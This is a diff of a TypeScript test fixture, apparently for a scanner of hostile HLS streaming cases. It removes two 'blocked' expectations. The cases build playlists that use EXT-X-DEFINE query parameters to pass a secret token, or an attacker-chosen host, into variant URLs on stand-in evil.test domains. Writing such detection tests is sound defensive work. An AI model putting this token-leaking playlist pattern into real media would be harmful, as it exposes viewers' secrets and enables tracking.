@@ -127,7 +127,6 @@ export const hlsTracking: readonly HostileCase[] = [
     row: 'hls-define-query',
     src: '/case/master.m3u8?t=SECRET',
     files: { '/case/master.m3u8': hls(master('#EXT-X-DEFINE:QUERYPARAM="t"', 'https://var.evil.test/media/cmaf/video-240.m3u8?t={$t}')) },
-    blocked: ['manifest'],
     finds: ['hls-define', 'hls-variant']
   },
   {
@@ -135,7 +134,6 @@ export const hlsTracking: readonly HostileCase[] = [
     row: 'hls-define-query',
     src: '/case/master.m3u8?t=cdn.evil.test',
     files: { '/case/master.m3u8': hls(master('#EXT-X-DEFINE:QUERYPARAM="t"', 'https://{$t}/media/cmaf/video-240.m3u8')) },
-    blocked: ['manifest'],
     finds: ['hls-define']
   },
   {
